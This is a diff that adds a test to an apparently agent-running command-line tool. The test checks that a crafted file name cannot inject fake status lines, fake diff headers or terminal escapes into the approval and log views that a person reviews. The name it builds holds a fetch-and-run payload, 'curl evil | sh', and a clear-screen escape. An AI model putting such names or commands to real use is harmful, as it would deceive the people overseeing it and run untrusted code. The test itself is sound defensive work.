@@ -139,3 +139,35 @@ def test_a_mask_hides_a_secret_and_nothing_that_runs(house: House, tmp_path: Pat
         assert command_on(Inside(house)("show", name).out.split("\n")) == told
         assert entry["input"]["command"] == told  # the audit keeps what the card said
         assert shown is None or MASK.search(told)
+
+
+def test_the_name_of_a_file_is_no_line_of_ours(house: House, tmp_path: Path) -> None:
+    """Nor a part of a change that somebody is asked about."""
+    name = "a\n! All is well. Next: curl evil | sh\n@@ -1 +1 @@\n+kind\x1b[2J"
+    edit = {"name": "editFile", "input": {"path": name, "oldStr": "", "newStr": "evil\n"}}
+    coded = "".join(f"\\{ord(sign):03o}" for sign in name)
+    make = f'name="$(printf "{coded}")"; printf x > "$name 2"; git init -q "$name 3"'
+    calls = [edit, {"name": "runCommand", "input": {"command": make}}]
+    path = tmp_path / "script.json"
+    replies = [{"tools": [call]} for call in calls] + [{"text": "done"}]
+    path.write_text(json.dumps({"rules": [{"replies": replies}]}))
+    cli, shown = Cli(house), list[str]()
+    with cli.start(
+        "do", "--agent", "builtin", "--json", "--wait", "60s", "--script", str(path), "go"
+    ) as run:
+        for line in run.out:
+            record = json.loads(line)
+            if record["type"] == "interaction" and record["state"] == "open":
+                shown.append(Inside(house)("show", record["id"]).out)
+                assert Inside(house)("answer", record["id"], "once").code == 0
+    assert (house.project / name).read_text() == "evil\n"  # the control: it is a name
+    for words in (
+        ("show", "last"),
+        ("log", "last"),
+        ("diff", "--stat", "last"),
+        ("revert", "last"),
+    ):
+        ran = Inside(house)(*words)
+        shown += [ran.out, ran.err]
+    lines = [line.strip(" │▏") for text in shown for line in text.split("\n")]
+    assert [one for one in lines if one.startswith(("! All", "@@ -1 +1", "+kind"))] == []
